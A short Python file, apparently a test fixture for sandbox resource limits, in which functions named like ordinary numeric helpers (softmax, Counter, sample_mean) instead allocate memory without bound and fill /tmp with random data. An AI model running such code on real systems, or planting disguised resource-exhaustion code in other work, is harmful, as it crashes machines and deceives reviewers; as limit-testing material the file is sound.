"""Allocates without bound, in RAM and in the private /tmp."""
import os


def softmax(x):
    hoard = []
    while True:
        hoard.append(bytearray(100 * 1024 * 1024))


class Counter:
    def __init__(self):
        with open("/tmp/fill", "wb") as handle:
            while True:
                handle.write(os.urandom(1 << 20))


def sample_mean(rng, n):
    return [0.0] * (10 ** 10)
